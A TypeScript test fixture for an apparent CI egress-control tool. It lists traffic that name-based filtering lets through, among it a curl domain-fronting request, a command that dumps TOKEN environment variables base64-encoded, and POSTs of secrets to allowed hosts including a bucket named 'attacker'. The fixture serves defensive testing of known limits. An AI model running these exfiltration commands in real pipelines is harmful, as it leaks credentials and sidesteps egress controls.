/** The shapes of traffic that egress control by name does not stop: limits, which the tests assert. */
import { NPM_ADDRESS } from './places.ts';
import type { Shape } from './shape.ts';
import { curl, host, post } from './shape-places.ts';

export const passingShapes: readonly Shape[] = [
  {
    number: 9,
    shape: 'an allowed CDN address with the name of another customer',
    verdict: 'limit',
    expected: 'passes: names are not pinned to TLS yet',
    notHere: '',
    parts: [
      {
        script: `
          ${curl} "$NPM_REGISTRY-/ping"
          curl -sSk -m 20 -o /dev/null -w 'foreign name: %{http_code}' \\
            --resolve discord.com:443:${NPM_ADDRESS} https://discord.com/-/ping`,
        rows: [],
        log: /foreign name: 200/,
        control: [],
      },
    ],
  },
  {
    number: 15,
    shape: 'secrets printed to the job log',
    verdict: 'limit',
    expected: 'passes: not a matter of egress',
    notHere: '',
    parts: [
      {
        script: 'env | grep TOKEN | base64 -w0 | base64 -w0',
        rows: [],
        log: 'secrets',
        control: [],
      },
    ],
  },
  {
    number: 16,
    shape: 'secrets sent to an allowed destination: gitlab.com, any bucket, a publish',
    verdict: 'limit',
    expected: 'passes: a policy says where, not what',
    notHere: 'Bytes per job are not reported yet.',
    parts: [
      {
        script: `
          ${post} https://${host.name}/api/v4/projects/1/issues
          ${post} https://storage.googleapis.com/upload/storage/v1/b/attacker/o
          node -e "const w = require('$WIRE'); w.publish(w.loot())"`,
        rows: [],
        arrives: [
          `POST ${host.name}/api/v4/projects/1/issues`,
          'POST storage.googleapis.com/upload/storage/v1/b/attacker/o',
        ],
        carriesSecrets: true,
        publishes: true,
        control: [
          `DNS ${host.name}`,
          `POST ${host.name}/api/v4/projects/1/issues`,
          'DNS storage.googleapis.com',
          'POST storage.googleapis.com/upload/storage/v1/b/attacker/o',
        ],
      },
    ],
  },
];
